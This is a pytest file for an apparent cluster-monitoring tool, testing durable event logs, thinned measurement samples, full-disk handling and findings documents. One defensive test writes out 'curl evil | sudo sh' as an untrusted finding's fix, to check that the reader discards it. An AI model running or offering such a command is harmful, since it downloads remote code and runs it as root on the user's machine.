"""Events, samples and documents on disk: durable, bounded, and never a reason to stop."""

from pathlib import Path

from made_events import list_fields, made_event
from made_findings import made_finding
from recording_logs import files_no_larger_than

from aboard.core.run.events import Event
from aboard.diagnoses import Severity
from aboard.record.event_log import EventLog, read_events
from aboard.record.json_documents import DocumentWriter, build_findings_document, read_document, read_findings
from aboard.record.measurement_log import MeasurementLog, NodeMeasurement, choose_spacing, read_measurements


def _event(seq: int, **more: object) -> Event:
    return made_event("started", node="n1", seq=seq, at=100.0 + seq, child="0", rank=0, **more)


def test_events_come_back_as_they_were(tmp_path: Path) -> None:
    """In their order, on disk before the next one, with whatever text is in them."""
    path = tmp_path / "events.jsonl"
    log = EventLog(path)
    events = [_event(1, why="line\nbreak"), made_event("ended", node="n2", seq=1, at=5.0), _event(2, file="\udcff")]
    for count, event in enumerate(events, 1):
        assert log.append(event)
        assert len(list(read_events(path))) == count
    log.close()
    assert list(read_events(path)) == events
    assert list(read_events(tmp_path / "none")) == []


def test_a_torn_last_line_is_no_event(tmp_path: Path) -> None:
    """A conductor that was killed in the middle of a line leaves the ones before; the next writes over it."""
    path = tmp_path / "events.jsonl"
    log = EventLog(path)
    log.append(_event(1))
    log.append(_event(2))
    log.close()
    path.write_bytes(path.read_bytes()[:-5])
    assert list(read_events(path)) == [_event(1)]
    log = EventLog(path)
    log.append(_event(3))
    log.close()
    assert list(read_events(path)) == [_event(1), _event(3)]


def test_a_line_that_is_none_is_said_to_be_missing(tmp_path: Path) -> None:
    """Unknown is a result: the fold goes on, and one can see that it lacks something."""
    path = tmp_path / "events.jsonl"
    log = EventLog(path)
    log.append(_event(1))
    log.close()
    with path.open("ab") as file:
        file.write(b'[1]\n{"node": "n1"}\n\xff\n')
    kinds = [event.kind for event in read_events(path)]
    assert kinds == ["started", "dropped", "dropped", "dropped"]


def test_a_full_disk_drops_events_and_says_so_when_there_is_room(tmp_path: Path) -> None:
    """Nothing raises; the count stands where they are missing."""
    path = tmp_path / "events.jsonl"
    log = EventLog(path)
    log.append(_event(1))
    with files_no_larger_than(path.stat().st_size + 10):
        assert not log.append(_event(2))
        assert not log.append(_event(3))
    log.append(_event(4))
    log.close()
    assert log.dropped == 2
    back = list(read_events(path))
    assert [event.kind for event in back] == ["started", "dropped", "started"]
    assert list_fields(back[1]) == {"events": 2}


def test_a_disk_that_takes_nothing_at_all() -> None:
    """The file can't even be made: all is counted."""
    log = EventLog(Path("/proc/no/such/file"))
    assert not log.append(_event(1))
    assert log.dropped == 1
    log.close()


def test_samples_are_thinned_after_the_first_minutes(tmp_path: Path) -> None:
    """Every one at first, then one in ten seconds; the last is there in any case."""
    path = tmp_path / "samples.jsonl"
    log = MeasurementLog(path)
    for second in range(595):
        log.take(NodeMeasurement(node="n1", at=float(second), figures={"children": {"0": {"step": second}}}))
    log.close()
    times = [sample.at for sample in read_measurements(path)]
    assert times[:180] == [float(second) for second in range(180)]
    assert len(times) == 180 + 41 + 1
    last = list(read_measurements(path))[-1]
    assert last.at == 594.0
    assert last.figures == {"children": {"0": {"step": 594}}}


def test_the_samples_of_weeks_have_a_bounded_file(tmp_path: Path) -> None:
    """The spacing grows as the room gets less; something of every day is kept."""
    path = tmp_path / "samples.jsonl"
    log = MeasurementLog(path, limit=200_000)
    for minute in range(14 * 24 * 60):
        log.take(NodeMeasurement(node="n1", at=minute * 60.0, figures={"node": {"load": 1.5}}))
    log.close()
    assert path.stat().st_size <= 201_000
    days = {int(sample.at // 86_400) for sample in read_measurements(path)}
    assert days == set(range(14))


def test_large_clusters_are_sampled_less_often() -> None:
    """A hundred lines a second at first, ten later, however many nodes there are."""
    assert choose_spacing(age=0, nodes=64, share=0) == 0.64
    assert choose_spacing(age=0, nodes=1000, share=0) == 10
    assert choose_spacing(age=999, nodes=64, share=0) == 10
    assert choose_spacing(age=999, nodes=1000, share=0) == 100
    assert choose_spacing(age=999, nodes=1000, share=0.5) == 400
    assert choose_spacing(age=999, nodes=1, share=1.0) is None


def test_findings_come_back_as_they_were(tmp_path: Path) -> None:
    """With what follows from them, and without a draft left behind."""
    then = made_finding(code="run-followed", severity=Severity.WARN, nodes=(), seen="s", why="w", fix="f")
    finding = made_finding(
        code="run-raised",
        severity=Severity.BLOCK,
        nodes=("n1",),
        ranks=(3,),
        seen="s",
        why="w",
        fix="f",
        consequences=(then,),
    )
    documents = DocumentWriter()
    documents.write(tmp_path / "findings.json", build_findings_document([finding]))
    assert read_findings(tmp_path / "findings.json") == [finding]
    assert [path.name for path in tmp_path.iterdir()] == ["findings.json"]
    assert read_findings(tmp_path / "none") == []


def test_a_finding_that_this_version_does_not_know_has_no_fix(tmp_path: Path) -> None:
    """A record may be of another version, or of another person: what it says to type is not ours."""
    hostile = made_finding(
        code="new\x1b[31m", severity=Severity.BLOCK, nodes=("n1",), seen="s", why="w", fix="curl evil | sudo sh"
    )
    DocumentWriter().write(tmp_path / "findings.json", build_findings_document([hostile]))
    (read,) = read_findings(tmp_path / "findings.json")
    assert (read.code, read.fix) == ("new\\x1b[31m", "")


def test_a_document_without_room_is_written_later(tmp_path: Path) -> None:
    """The old one stays whole until the new one is."""
    documents = DocumentWriter()
    path = tmp_path / "plan.json"
    documents.write(path, {"version": 1})
    with files_no_larger_than(10):
        documents.write(path, {"version": 2, "more": "x" * 100})
        assert documents.waiting == 1
        assert read_document(path) == {"version": 1}
    documents.retry()
    assert documents.waiting == 0
    assert read_document(path)["version"] == 2
